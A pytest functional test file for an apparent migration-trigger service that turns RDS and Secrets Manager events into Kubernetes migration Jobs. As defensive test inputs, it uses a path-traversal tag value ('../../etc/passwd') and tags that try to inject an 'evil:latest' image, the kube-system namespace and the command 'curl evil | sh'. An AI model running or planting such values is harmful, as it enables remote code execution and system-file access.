"""Every trigger kind, and routing decided from the database's tags and the profiles."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from aws_durable_execution_sdk_python.execution import InvocationStatus

from tests.fixtures import admin_client
from tests.functional.orchestrator.conftest import (
    ON_CHOSEN_CLUSTERS,
    PROFILE_TAG,
    World,
    profiles,
    self_managed_instance,
)
from tests.functional.orchestrator.test_aurora import add_instance, aurora_cluster


@ON_CHOSEN_CLUSTERS
@pytest.mark.parametrize(
    ("file", "trigger"),
    [
        ("rds-instance-created.json", "db-created"),
        ("rds-instance-restored-point-in-time.json", "db-restored"),
        ("rds-restored-from-snapshot.json", "db-restored"),
        ("secret-label-updated.json", "secret-rotated"),
        ("cloudtrail-rotation-succeeded.json", "secret-rotated"),
        ("manual-retrigger.json", "manual"),
    ],
)
def test_each_instance_trigger_kind_runs_a_migration(world: World, file: str, trigger: str):
    run = world.run(world.event(file))

    assert run.status is InvocationStatus.SUCCEEDED, run.error
    assert run.result["status"] == "succeeded"
    assert run.result["trigger"] == trigger
    (job,) = world.jobs()
    assert job["metadata"]["labels"]["migration-trigger.io/trigger"] == trigger


@ON_CHOSEN_CLUSTERS
def test_cluster_created_event_runs_a_migration_for_the_cluster(world: World):
    cluster = aurora_cluster()
    # Its writer: a migration waits for one (test_aurora.py covers a cluster still without).
    add_instance("billing-1")
    event = world.event("rds-cluster-created.json", SourceArn=cluster["DBClusterArn"])

    run = world.run(event)

    assert run.result["status"] == "succeeded", run.result
    assert run.result["database"] == cluster["DBClusterArn"]
    assert run.result["job"].startswith("migrate-billing-cluster-")


@ON_CHOSEN_CLUSTERS
def test_manual_request_naming_an_identifier_runs(world: World):
    event = world.event("manual-retrigger.json")
    event["detail"] = {"database": "orders-db", "kind": "instance", "reason": "hotfix"}

    run = world.run(event)

    assert run.result["status"] == "succeeded"
    assert run.result["database"] == world.db_arn


@ON_CHOSEN_CLUSTERS
def test_native_and_cloudtrail_events_of_one_rotation_run_one_job(world: World):
    first = world.run(world.event("secret-label-updated.json", versionId=current_version(world)))
    second = world.run(world.event("cloudtrail-rotation-succeeded.json"), name="second")

    assert first.result["status"] == "succeeded"
    assert second.result["status"] == "duplicate"
    assert len(world.jobs()) == 1


def current_version(world: World) -> str:
    versions = admin_client("secretsmanager").describe_secret(SecretId=world.secret_arn)[
        "VersionIdsToStages"
    ]
    return next(v for v, stages in versions.items() if "AWSCURRENT" in stages)


@ON_CHOSEN_CLUSTERS
def test_database_without_opt_in_tag_is_skipped_and_no_job_is_created(world: World):
    admin_client("rds").remove_tags_from_resource(ResourceName=world.db_arn, TagKeys=[PROFILE_TAG])

    run = world.run(world.event("rds-instance-created.json"))

    assert run.status is InvocationStatus.SUCCEEDED
    assert run.result["status"] == "skipped"
    assert "has no 'migration-trigger:profile' tag" in run.result["reason"]
    assert world.jobs() == []
    assert world.requests.find("POST") == []


@ON_CHOSEN_CLUSTERS
def test_tag_naming_an_unknown_profile_is_rejected(world: World):
    admin_client("rds").add_tags_to_resource(
        ResourceName=world.db_arn, Tags=[{"Key": PROFILE_TAG, "Value": "../../etc/passwd"}]
    )

    run = world.run(world.event("rds-instance-created.json"))

    assert run.result["status"] == "rejected"
    assert "names no profile (defined: arn-mode, orders, reports)" in run.result["reason"]
    assert world.jobs() == []


@ON_CHOSEN_CLUSTERS
def test_profile_not_running_on_the_trigger_is_skipped(world: World):
    admin_client("rds").add_tags_to_resource(
        ResourceName=world.db_arn, Tags=[{"Key": PROFILE_TAG, "Value": "reports"}]
    )

    run = world.run(world.event("rds-instance-created.json"))

    assert run.result["status"] == "skipped"
    assert "profile 'reports' does not run on db-created (runs on: manual)" in run.result["reason"]


@ON_CHOSEN_CLUSTERS
def test_tags_cannot_bring_an_image_command_or_namespace(world: World):
    admin_client("rds").add_tags_to_resource(
        ResourceName=world.db_arn,
        Tags=[
            {"Key": "migration-trigger:image", "Value": "evil:latest"},
            {"Key": "migration-trigger:namespace", "Value": "kube-system"},
            {"Key": "migration-trigger:command", "Value": "curl evil | sh"},
        ],
    )

    world.run(world.event("rds-instance-created.json"))

    (job,) = world.jobs()
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "ghcr.io/example/orders-migrations:1.0.0"
    assert container["command"] == ["dbmate", "up"]
    assert job["metadata"]["namespace"] == "migrations"


@ON_CHOSEN_CLUSTERS
def test_rotation_of_a_secret_the_function_may_not_read_is_ignored_quietly(world: World):
    """Secret Label Updated fires for every secret in the account; the template's policy lets the
    function describe only RDS-managed secrets and secrets tagged with a database, and AWS answers
    AccessDeniedException for the rest (enforced here by local_stack/iam.py)."""
    # Given a secret that is no database's credentials
    other = admin_client("secretsmanager").create_secret(Name="unrelated", SecretString="{}")["ARN"]
    event = world.event("secret-label-updated.json")
    event["resources"] = [other]

    # When its AWSCURRENT label moves
    run = world.run(event)

    # Then the event is ignored: no failure, no notification, no Job
    assert run.status is InvocationStatus.SUCCEEDED, run.error
    assert run.result["status"] == "ignored"
    assert "is not a database's credentials secret this function may read" in run.result["reason"]
    assert world.iam.calls[0].allowed is False
    assert world.notifications() == []
    assert world.jobs() == []


@ON_CHOSEN_CLUSTERS
def test_deleted_database_is_skipped(world: World):
    admin_client("rds").delete_db_instance(DBInstanceIdentifier="orders-db", SkipFinalSnapshot=True)

    run = world.run(world.event("rds-instance-created.json"))

    assert run.result["status"] == "skipped"
    assert "no longer exists" in run.result["reason"]


def _legacy_database() -> str:
    """An opted-in instance without an RDS-managed secret; returns its ARN."""
    return self_managed_instance("legacy-db")


def _self_managed_secret(name: str, *, database: str | None) -> str:
    """legacy-db's credentials secret (its JSON names the instance, as Secrets Manager's RDS
    credentials secrets do), tagged with its database when one is given; returns its ARN."""
    tags = [{"Key": "migration-trigger:database", "Value": database}] if database else []
    value = {"username": "app", "password": "x", "dbInstanceIdentifier": "legacy-db"}
    return str(
        admin_client("secretsmanager").create_secret(
            Name=name, SecretString=json.dumps(value), Tags=tags
        )["ARN"]
    )


@ON_CHOSEN_CLUSTERS
def test_self_managed_secret_must_name_its_database_back(world: World):
    sm = admin_client("secretsmanager")
    legacy_arn = _legacy_database()
    secret = _self_managed_secret("legacy-db-creds", database=None)
    admin_client("rds").add_tags_to_resource(
        ResourceName=legacy_arn, Tags=[{"Key": "migration-trigger:secret", "Value": secret}]
    )
    event = world.event("rds-instance-created.json", SourceArn=legacy_arn)

    refused = world.run(event)
    sm.tag_resource(
        SecretId=secret, Tags=[{"Key": "migration-trigger:database", "Value": legacy_arn}]
    )
    accepted = world.run(world.event("manual-retrigger.json", database=legacy_arn), name="again")

    assert refused.result["status"] == "rejected"
    # The policy lets the function describe only secrets that carry the tag (AccessDenied).
    assert "cannot be read (AccessDeniedException)" in refused.result["reason"]
    assert (
        f"must exist and be tagged migration-trigger:database={legacy_arn}"
        in (refused.result["reason"])
    )
    assert accepted.result["status"] == "succeeded", accepted.result


@ON_CHOSEN_CLUSTERS
@pytest.mark.parametrize("naming", ["name", "partial ARN", "ARN"])
def test_rotation_runs_only_for_the_secret_the_database_names(world: World, naming: str):
    # Given legacy-db's own secret `legacy-db`, named by the database's tag as a name, an ARN
    # without its random suffix, or a full ARN; and `legacy-db-admin`, bound to the same database
    # and whose ARN starts with the first one's partial ARN.
    legacy_arn = _legacy_database()
    own = _self_managed_secret("legacy-db", database=legacy_arn)
    admin = _self_managed_secret("legacy-db-admin", database=legacy_arn)
    tag = {"name": "legacy-db", "partial ARN": own[: -len("-XXXXXX")], "ARN": own}[naming]
    admin_client("rds").add_tags_to_resource(
        ResourceName=legacy_arn, Tags=[{"Key": "migration-trigger:secret", "Value": tag}]
    )
    rotated = {}
    for secret in (own, admin):
        name = secret.rsplit(":", 1)[-1]
        event = world.event("secret-label-updated.json")
        event["resources"] = [secret]
        event["detail"]["name"] = name
        # When each of them rotates
        rotated[secret] = world.run(event, name=name)

    # Then only the database's own secret migrates it
    assert rotated[own].result["status"] == "succeeded", rotated[own].result
    assert rotated[own].result["database"] == legacy_arn
    assert rotated[admin].result["status"] == "skipped"
    assert rotated[admin].result["reason"] == (
        f"secret {admin} is not the credentials secret of legacy-db ({own})"
    )
    (job,) = world.jobs()
    assert job["metadata"]["annotations"]["migration-trigger.io/database-arn"] == legacy_arn


@ON_CHOSEN_CLUSTERS
def test_profiles_document_errors_fail_the_invocation_naming_the_problem(world: World):
    world.set_profiles(
        {"profiles": {"orders": {**profiles()["profiles"]["orders"], "namespace": "Bad"}}}
    )

    run = world.run(world.event("rds-instance-created.json"))

    assert run.status is InvocationStatus.FAILED
    assert "profile 'orders': 'namespace' must be a DNS label" in (run.error or "")
    assert world.jobs() == []


@ON_CHOSEN_CLUSTERS
def test_profile_targeting_a_kubeconfig_context_runs_there(world: World, tmp_path: Path):
    from kube_emulator import StaticToken

    world.authenticator.static_tokens = [
        StaticToken("ci-token", "ci-deployer", groups=("migration-trigger",))
    ]
    kubeconfig = tmp_path / "kubeconfig"
    assert world.cluster is not None
    kubeconfig.write_text(json.dumps(world.cluster.kubeconfig("ci-token", "platform-dev")))
    world.monkeypatch.setenv("KUBECONFIG", str(kubeconfig))
    document = profiles()
    document["profiles"]["orders"]["cluster"] = {"kubeconfigContext": "platform-dev"}
    world.set_profiles(document)

    run = world.run(world.event("rds-instance-created.json"))

    assert run.result["status"] == "succeeded", run.result
    assert run.result["cluster"] == "kubeconfig:platform-dev"
    assert {r.user for r in world.requests.all()} == {"ci-deployer"}


@ON_CHOSEN_CLUSTERS
def test_kubeconfig_context_without_kubeconfig_fails_clearly(world: World):
    world.monkeypatch.delenv("KUBECONFIG", raising=False)
    document = profiles()
    document["profiles"]["orders"]["cluster"] = {"kubeconfigContext": "somewhere"}
    world.set_profiles(document)

    run = world.run(world.event("rds-instance-created.json"))

    assert run.status is InvocationStatus.FAILED
    assert "a profile targets kubeconfig context 'somewhere' but KUBECONFIG is not set" in (
        run.error or ""
    )
